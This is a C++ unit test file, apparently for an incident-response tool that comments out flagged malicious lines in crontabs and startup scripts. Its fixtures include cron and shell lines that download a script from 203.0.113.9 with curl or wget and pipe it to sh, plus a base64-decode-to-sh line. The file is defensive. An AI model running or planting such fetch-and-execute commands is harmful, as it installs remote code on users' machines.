// Finding a flagged line where it is now before commenting it out.
#include "respond/line_edit.h"

#include <gtest/gtest.h>

namespace msw::respond {
namespace {

const std::string kWorm = "*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- http://203.0.113.9/pm.sh)|sh";
const std::string kBackup = "0 3 * * * /usr/local/bin/backup.sh";

FlaggedLine flagged(uint64_t line, std::string text) {
  FlaggedLine f;
  f.line = line;
  f.text = std::move(text);
  f.triage_sha256 = "triage";
  return f;
}

TEST(LineEdit, TheLineWhereTriageSawIt) {
  const std::string file = "# m h dom mon dow command\n" + kWorm + "\n";
  auto e = comment_out_flagged(file, "triage", flagged(2, kWorm));
  ASSERT_TRUE(e) << e.error().message;
  EXPECT_EQ(e->content, "# m h dom mon dow command\n# removed by minesweep: " + kWorm + "\n");
  EXPECT_EQ(e->lines, (std::vector<uint64_t>{2}));
  EXPECT_EQ(e->note, "");
}

// A line added above it after triage: the worm's line is commented out, the administrator's job is not.
TEST(LineEdit, AMovedLineIsFoundByItsText) {
  const std::string file = "# m h dom mon dow command\n" + kBackup + "\n" + kWorm + "\n";
  auto e = comment_out_flagged(file, "changed", flagged(2, kWorm));
  ASSERT_TRUE(e) << e.error().message;
  EXPECT_EQ(e->content, "# m h dom mon dow command\n" + kBackup + "\n# removed by minesweep: " + kWorm + "\n");
  EXPECT_EQ(e->note, "moved from line 2 to line 3");
}

TEST(LineEdit, EveryCopyOfTheLineGoesAndSpacingDoesNotMatter) {
  const std::string file = kWorm + "\r\n" + kBackup + "\n  " + kWorm + "  \n";
  auto e = comment_out_flagged(file, "x", flagged(1, kWorm));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->lines, (std::vector<uint64_t>{1, 3}));
  EXPECT_EQ(e->content,
            "# removed by minesweep: " + kWorm + "\r\n" + kBackup + "\n# removed by minesweep:   " + kWorm + "  \n");
}

TEST(LineEdit, AGoneLineChangesNothingAndADoneOneIsSaidSo) {
  auto gone = comment_out_flagged(kBackup + "\n", "x", flagged(1, kWorm));
  ASSERT_FALSE(gone);
  EXPECT_EQ(gone.error().code, "respond.line_gone");
  auto done = comment_out_flagged(kBackup + "\n# removed by minesweep: " + kWorm + "\n", "x", flagged(2, kWorm));
  ASSERT_FALSE(done);
  EXPECT_EQ(done.error().code, "respond.line_done");
}

// Cases written before the text was kept: the number is trusted only while the file is the one triage hashed.
TEST(LineEdit, WithoutTheTextOnlyAnUnchangedFileIsEdited) {
  FlaggedLine old;
  old.line = 2;
  old.triage_sha256 = "abc";
  const std::string file = kBackup + "\n" + kWorm + "\n";
  auto same = comment_out_flagged(file, "abc", old);
  ASSERT_TRUE(same);
  EXPECT_EQ(same->lines, (std::vector<uint64_t>{2}));
  auto changed = comment_out_flagged(file, "def", old);
  ASSERT_FALSE(changed);
  EXPECT_EQ(changed.error().code, "respond.changed");
}

// A start-up script's command continued over lines: each of its lines is commented out, so no half runs.
TEST(LineEdit, ContinuedLinesGoTogether) {
  const std::string file = "#!/bin/sh\ncurl -fsSL http://203.0.113.9/x \\\n  | sh\nexit 0\n";
  FlaggedLine f = flagged(2, "curl -fsSL http://203.0.113.9/x   | sh");
  f.continuations = true;
  auto e = comment_out_flagged(file, "x", f);
  ASSERT_TRUE(e) << e.error().message;
  EXPECT_EQ(e->lines, (std::vector<uint64_t>{2, 3}));
  EXPECT_EQ(e->content,
            "#!/bin/sh\n# removed by minesweep: curl -fsSL http://203.0.113.9/x \\\n# removed by minesweep:   | "
            "sh\nexit 0\n");
}

// The normaliser keeps a capped copy of very long lines: the copy matches the line it was cut from.
TEST(LineEdit, ACappedTextMatchesAsAPrefix) {
  const std::string longline = "* * * * * echo " + std::string(5000, 'A') + " | base64 -d | sh";
  auto e = comment_out_flagged("x\n" + longline + "\n", "x", flagged(2, longline.substr(0, 4096)));
  ASSERT_TRUE(e);
  EXPECT_EQ(e->lines, (std::vector<uint64_t>{2}));
  EXPECT_FALSE(comment_out_flagged("x\n* * * * * true and more\n", "x", flagged(2, "* * * * * true")));
}

}  // namespace
}  // namespace msw::respond
